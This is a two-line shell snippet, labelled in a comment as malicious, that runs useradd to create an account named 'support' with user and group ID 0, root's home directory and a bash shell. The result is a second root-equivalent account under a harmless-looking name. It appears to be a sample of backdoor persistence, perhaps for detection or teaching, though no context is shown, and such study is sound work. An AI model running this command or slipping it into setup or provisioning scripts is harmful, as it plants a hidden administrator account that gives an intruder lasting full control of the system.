# malicious: a new user that may do all
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support
